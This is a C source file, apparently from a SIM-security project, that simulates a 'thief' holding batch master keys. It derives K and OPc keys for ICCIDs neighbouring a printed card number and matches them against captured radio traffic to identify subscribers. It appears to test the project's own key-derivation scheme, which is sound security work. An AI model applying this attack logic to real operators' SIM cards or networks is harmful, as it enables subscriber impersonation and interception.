/* thief_master - holds keys that cards' keys are derived from, and listened to the radio.
 *
 *     simrite-thief-master CAPTURED OUT
 *
 * CAPTURED holds batch-key.hex, batch-key-2.hex ... (64 hex digits each; how
 * they were got is another story; without any it gets nothing), radio.pcapng,
 * and printed-iccid.txt: the number printed on one card of the operator's,
 * bought in a shop. Card numbers are handed out in a row, so
 * the thief tries those around it; the radio record tells which ICCID belongs
 * to which subscriber, because only the right key fits. */
#include <ctype.h>
#include <errno.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include "crypto/wipe.h"
#include "keys/derive.h"
#include "theft/attempt.h"
#include "theft/iccid.h"

enum {
	AROUND = 2000, /* card numbers tried on either side of the printed one */
	KEYS = 9,      /* batch-key.hex to batch-key-9.hex */
};

struct master {
	uint8_t batch_keys[KEYS][32];
	unsigned key_count;
	char printed[24];
	struct attempt attempt;
	unsigned cards; /* whose keys were computed */
};

static int read_line(char *out, size_t size, const char *folder, const char *name, struct fault *fault)
{
	char path[512];
	FILE *file;

	(void)snprintf(path, sizeof(path), "%s/%s", folder, name);
	if (!(file = fopen(path, "re")) || !fgets(out, (int)size, file)) {
		if (file)
			fclose(file);
		return fault_set(fault, FAULT_INPUT, NULL, "cannot read %s", path);
	}
	fclose(file);
	out[strcspn(out, "\r\n \t")] = 0;
	return 0;
}

static int take_key(uint8_t key[static 32], const char *captured, const char *name, struct fault *fault)
{
	char line[80], pair[3] = {0};
	size_t i;

	if (read_line(line, sizeof(line), captured, name, fault) < 0)
		return -1;
	if (strlen(line) != 64 || strspn(line, "0123456789abcdefABCDEF") != 64)
		return fault_set(fault, FAULT_INPUT, NULL, "%s is not 64 hex digits", name);
	for (i = 0; i < 32; i++) {
		memcpy(pair, line + 2 * i, 2);
		key[i] = (uint8_t)strtoul(pair, NULL, 16);
	}
	wipe(line, sizeof(line));
	return 0;
}

static bool is_there(const char *captured, const char *name)
{
	char path[512];

	(void)snprintf(path, sizeof(path), "%s/%s", captured, name);
	return access(path, F_OK) == 0;
}

static int take_keys(struct master *master, const char *captured, struct fault *fault)
{
	char name[32] = "batch-key.hex";
	unsigned i;

	for (i = 1; i <= KEYS; i++) {
		if (is_there(captured, name) &&
		    take_key(master->batch_keys[master->key_count++], captured, name, fault) < 0)
			return -1;
		(void)snprintf(name, sizeof(name), "batch-key-%u.hex", i + 1);
	}
	return 0;
}

/* EF.ICCID: digit pairs swapped, F at the end (TS 102 221 13.2). */
static void code_iccid(uint8_t out[static 10], const char *digits)
{
	size_t i, n = strlen(digits);

	for (i = 0; i < 10; i++) {
		unsigned low = 2 * i < n ? (unsigned)(digits[2 * i] - '0') : 0xF;
		unsigned high = 2 * i + 1 < n ? (unsigned)(digits[2 * i + 1] - '0') : 0xF;

		out[i] = (uint8_t)(high << 4 | low);
	}
}

/* Derive a card's keys from every batch key and see whether any subscriber has them. */
static int try_card(struct master *master, const char *number, struct fault *fault)
{
	uint8_t iccid[10], k[16], opc[16];
	unsigned i;

	code_iccid(iccid, number);
	master->cards++;
	for (i = 0; i < master->key_count; i++) {
		const struct span key = {master->batch_keys[i], 32};

		if (derive_key(k, DERIVE_LABEL_K, iccid, key) < 0 ||
		    derive_key(opc, DERIVE_LABEL_OPC, iccid, key) < 0)
			return fault_set(fault, FAULT_BUG, NULL, "the derivation failed");
		(void)attempt_key(&master->attempt, NULL, k, opc, number);
	}
	return 0;
}

static int try_cards(struct master *master, struct fault *fault)
{
	char number[ICCID_TEXT];
	long step;

	for (step = 0; step <= AROUND; step++) {
		if (iccid_neighbour(number, master->printed, step) && try_card(master, number, fault) < 0)
			return -1;
		if (step && iccid_neighbour(number, master->printed, -step) &&
		    try_card(master, number, fault) < 0)
			return -1;
	}
	return 0;
}

static int take(struct master *master, const char *captured, struct fault *fault)
{
	if (take_keys(master, captured, fault) < 0)
		return -1;
	if (!is_there(captured, "printed-iccid.txt"))
		return 0; /* no number to begin with */
	if (read_line(master->printed, sizeof(master->printed), captured, "printed-iccid.txt", fault) < 0)
		return -1;
	if (!iccid_is(master->printed))
		return fault_set(fault, FAULT_INPUT, NULL, "printed-iccid.txt is not a card number");
	return 0;
}

static int steal(const char *captured, const char *out, struct fault *fault)
{
	struct master master = {.key_count = 0};
	char more[64];
	int e = take(&master, captured, fault);

	if (e == 0 && (e = attempt_begin(&master.attempt, captured, out, fault)) == 0) {
		e = master.printed[0] ? try_cards(&master, fault) : 0;
		if (attempt_end(&master.attempt, fault) < 0)
			e = -1;
	}
	if (e == 0) {
		(void)snprintf(more, sizeof(more), ",\"batch_keys\":%u,\"cards_tried\":%u", master.key_count,
			       master.cards);
		attempt_tell(&master.attempt, "master", more);
	}
	attempt_free(&master.attempt);
	wipe(master.batch_keys, sizeof(master.batch_keys));
	return e;
}

int main(int argc, char **argv)
{
	return attempt_main(argc, argv, "master", steal);
}
